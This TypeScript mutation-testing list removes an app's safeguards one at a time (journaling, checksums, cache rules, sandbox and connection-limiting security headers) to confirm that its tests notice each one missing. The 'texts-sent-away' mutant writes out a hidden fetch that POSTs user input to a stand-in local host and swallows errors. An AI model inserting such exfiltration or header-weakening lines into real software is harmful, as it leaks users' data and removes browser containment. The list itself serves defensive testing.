/**
 * Safeguards taken away one at a time, to see that their absence is noticed: a test that passes without what it tests
 * proves nothing. A mutant is a replacement in one source file, made in a copy of the project; the app has no switches.
 */
import type { Mutant } from './mutate.ts';

export const MUTANTS: readonly Mutant[] = [
  {
    name: 'no-journal',
    file: 'src/storage/openKept.ts',
    find: "return { storage: kept, reason, keptIn: 'database and journal', reconcile: restore };",
    replace:
      "return { storage, reason, keptIn: 'database and journal', reconcile: () => Promise.resolve(NOTHING) };",
    killedBy: 'damages',
  },
  {
    name: 'no-checksum',
    file: 'src/core/journal.ts',
    find: "if (line[8] !== ' ' || checksum(json) !== line.slice(0, 8)) return undefined;",
    replace: "if (line[8] !== ' ') return undefined;",
    killedBy: 'tests/core/journal.test.ts',
  },
  {
    name: 'no-birth-mark',
    file: 'src/main.ts',
    find: "settings?.setItem(KEPT_MARK, 'yes');",
    replace: '',
    killedBy: 'tests/e2e/durability.spec.ts',
  },
  {
    name: 'acknowledge-before-complete',
    file: 'src/state/projectState.svelte.ts',
    find: 'await this.#storage.add(this.#project.id, { ...addition, ...joined(this.#waiting, addition) });',
    replace: 'void this.#storage.add(this.#project.id, addition).catch(() => undefined);',
    killedBy: 'quota',
  },
  {
    // What this tab knows, in place of what is there.
    name: 'whole-document-write',
    file: 'src/state/projectState.svelte.ts',
    find: 'await this.#storage.add(this.#project.id, { ...addition, ...joined(this.#waiting, addition) });',
    replace: `await this.#storage.deleteProject(this.#project.id);
      await this.#storage.add(this.#project.id, {
        project: this.#project,
        comparisons: [...this.#comparisons, ...(addition.comparisons ?? [])],
        events: [...this.#events, ...(addition.events ?? [])],
      });`,
    killedBy: 'tabs',
  },
  {
    // The requests have succeeded by then, and yet the transaction may abort.
    name: 'acknowledge-on-success',
    file: 'src/storage/idbConnection.ts',
    find: '    await ended;\n    return result;',
    replace: '    return result;',
    killedBy: 'storageCalls',
  },
  {
    name: 'no-abort-handler',
    file: 'src/storage/idbConnection.ts',
    find: "transaction.addEventListener('abort', () =>",
    replace: "transaction.addEventListener('never', () =>",
    killedBy: 'storageCalls',
  },
  {
    name: 'reopening-without-retry',
    file: 'src/storage/idbConnection.ts',
    find: 'return task(await this.#connect());',
    replace: 'throw error;',
    killedBy: 'tests/storage/idbStorage.test.ts',
  },
  {
    name: 'update-takes-over-unasked',
    file: 'workers/serviceWorker.ts',
    find: 'event.waitUntil(cache.complete())',
    replace: 'event.waitUntil(cache.complete().then(() => worker.skipWaiting()))',
    killedBy: 'tests/e2e/updates.spec.ts',
  },
  {
    name: 'headers-not-added-again',
    file: 'workers/serviceWorker.ts',
    find: 'all.set(name, value);',
    replace: 'void [name, value];',
    killedBy: 'tests/e2e/offline.spec.ts',
  },
  {
    name: 'no-hash-of-built-files',
    file: 'workers/buildCache.ts',
    find: 'return text === this.#build.files[path] ? bytes : undefined;',
    replace: 'return text ? bytes : undefined;',
    killedBy: 'updates',
  },
  {
    name: 'older-builds-deleted-at-once',
    file: 'workers/buildCache.ts',
    find: 'for (const name of (await this.#otherNames()).slice(0, -SPARE_BUILDS)) {',
    replace: 'for (const name of await this.#otherNames()) {',
    killedBy: 'tests/workers/buildCache.test.ts',
  },
  {
    name: 'builds-of-open-tabs-deleted',
    file: 'workers/buildCache.ts',
    find: 'if (!found.some(Boolean)) await caches.delete(name);',
    replace: 'await caches.delete(name);',
    killedBy: 'tests/workers/buildCache.test.ts',
  },
  {
    name: 'what-is-refused-is-dropped',
    file: 'src/state/projectState.svelte.ts',
    find: 'this.#waiting = joined(this.#waiting, act);',
    replace: '',
    killedBy: 'tests/state/compareSession.test.ts',
  },
  {
    name: 'deleted-text-stays-in-the-journal',
    file: 'src/storage/journaledStorage.ts',
    find: 'return this.#journal.compact().catch(() => undefined);',
    replace: 'return Promise.resolve();',
    killedBy: 'tests/storage/journaledStorage.test.ts',
  },
  {
    name: 'the-clock-decides-the-order',
    file: 'src/core/journal.ts',
    find: 'latest = act.at > latest ? act.at : latest + LEAST_AFTER_MS;',
    replace: 'latest = act.at;',
    killedBy: 'tests/core/journal.test.ts',
  },
  {
    name: 'no-sandbox',
    file: 'src/securityHeaders.ts',
    find: "  sandbox: 'allow-scripts allow-same-origin allow-downloads allow-forms allow-modals',\n",
    replace: '',
    killedBy: 'containment',
  },
  {
    name: 'no-connection-allowlist',
    file: 'src/securityHeaders.ts',
    find: "  'Connection-Allowlist': '(response-origin);webrtc=block',\n",
    replace: '',
    killedBy: 'containment',
  },
  {
    name: 'connect-anywhere',
    file: 'src/securityHeaders.ts',
    find: `'connect-src': "'self'",\n  'manifest-src'`,
    replace: `'connect-src': '*',\n  'manifest-src'`,
    killedBy: 'containment',
  },
  {
    name: 'no-prelude',
    file: 'src/prelude.ts',
    find: 'Object.defineProperty(owner, name, { value: undefined, writable: false, configurable: false });',
    replace: 'void [owner, name];',
    killedBy: 'containment',
  },
  {
    name: 'texts-sent-away',
    file: 'workers/encoderService.ts',
    find: 'const measurement = encoder.measure(request.inputs[row]);',
    replace: `const measurement = encoder.measure(request.inputs[row]);
      void fetch('http://127.0.0.1:8/', { method: 'POST', body: JSON.stringify(request.inputs[row]) }).catch(() => 0);`,
    killedBy: 'privacy',
  },
];
